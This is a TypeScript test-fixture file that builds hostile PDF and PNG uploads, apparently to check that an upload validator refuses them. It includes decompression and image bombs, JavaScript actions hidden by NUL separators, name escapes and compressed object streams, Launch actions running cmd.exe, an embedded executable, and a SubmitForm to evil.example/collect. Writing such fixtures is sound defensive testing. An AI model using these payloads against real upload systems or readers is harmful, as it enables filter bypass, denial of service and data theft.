import { deflateSync } from "node:zlib";
import { PDFDocument, StandardFonts } from "pdf-lib";
import sharp from "sharp";

// Hostile upload fixtures, made from a few lines of bytes each (never downloaded). Each one is a
// finding of the issue-13 probe or a variant of it.

type Part = string | Uint8Array;
export const pdfBytes = (...parts: Part[]) => new Uint8Array(Buffer.concat(parts.map((p) => (typeof p === "string" ? Buffer.from(p, "latin1") : Buffer.from(p)))));

const catalog = (extra: string) => pdfBytes(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${extra} >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`);

/** The probe's 1.66 MB "PDF": its header, then "/FlateDecode " 128,000 times (the old check was quadratic on it). */
export const quadraticPdf = () => pdfBytes("%PDF-1.4\n", "/FlateDecode ".repeat(128_000));

/** A small PDF whose page streams each inflate to `mib` MiB of zeros (the probe's was 5 × 32, 163 KB). */
export function inflateBombPdf(streams = 5, mib = 32) {
  const bomb = deflateSync(Buffer.alloc(mib * 1024 * 1024));
  const parts: Part[] = ["%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"];
  for (let i = 0; i < streams; i++) parts.push(`${i + 2} 0 obj\n<< /Length ${bomb.length} /Filter /FlateDecode >>\nstream\n`, bomb, "\nendstream\nendobj\n");
  return pdfBytes(...parts);
}

/** JavaScript whose names end in NUL instead of a space (the probe's bypass). */
export const nulSeparatedJsPdf = () => catalog("/OpenAction << /S /JavaScript\x00/JS\x00(app.alert(1)) >>");

/** An /OpenAction JavaScript action inside an object stream behind [/ASCIIHexDecode /FlateDecode]. */
export function objectStreamJsPdf() {
  const objects = ["<< /Type /Catalog /OpenAction 11 0 R >>", "<< /S /JavaScript /JS (app.alert(1)) >>"];
  const header = `10 0 11 ${objects[0]!.length + 1}\n`;
  const body = `${header}${objects.join("\n")}\n`;
  const hex = `${deflateSync(Buffer.from(body, "latin1")).toString("hex")}>`;
  return pdfBytes(
    "%PDF-1.5\n",
    `4 0 obj\n<< /Type /ObjStm /N 2 /First ${header.length} /Filter [/ASCIIHexDecode /FlateDecode] /Length ${hex.length} >>\nstream\n`,
    hex,
    "\nendstream\nendobj\ntrailer\n<< /Root 10 0 R >>\n%%EOF\n",
  );
}

/** Active content of each refused kind, some spelled with #xx escapes. */
export const activeContentPdfs = {
  "name-escaped JavaScript": () => catalog("/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
  "name-escaped Launch": () => catalog("/OpenAction << /S /#4Caunch /F (cmd.exe) >>"),
  Launch: () => catalog("/OpenAction << /S /Launch /F (cmd.exe) >>"),
  EmbeddedFile: () => catalog("/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /EF << /F 5 0 R >> >>] >> >>"),
  SubmitForm: () => catalog("/OpenAction << /S /SubmitForm /F (https://evil.example/collect) >>"),
  RichMedia: () => catalog("/Annots [<< /Subtype /RichMedia /RichMediaContent 6 0 R >>]"),
};

export const encryptedPdf = () => pdfBytes("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R /Encrypt 9 0 R >>\n%%EOF\n");

/** An ordinary one-page sign-in sheet as a PDF writer makes it (object streams, an image, a font). */
export async function harmlessPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([595, 842]);
  page.drawText("Sign-in sheet 2026-11-29", { x: 50, y: 780, size: 14, font: await doc.embedFont(StandardFonts.Helvetica) });
  const png = await sharp({ create: { width: 64, height: 48, channels: 3, background: "#3366aa" } }).png().toBuffer();
  page.drawImage(await doc.embedPng(png), { x: 50, y: 600, width: 128, height: 96 });
  return doc.save({ useObjectStreams: true });
}

const crcTable = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(data: Buffer): number {
  let c = 0xffffffff;
  for (const byte of data) c = crcTable[(c ^ byte) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}
function pngChunk(type: string, data: Buffer) {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A valid-looking PNG whose header declares width × height pixels (an "image bomb" when huge). */
export function pngDeclaring(width: number, height: number): Uint8Array {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  const rows = deflateSync(Buffer.alloc(64 * 1024));
  return new Uint8Array(
    Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk("IHDR", ihdr), pngChunk("IDAT", rows), pngChunk("IEND", Buffer.alloc(0))]),
  );
}
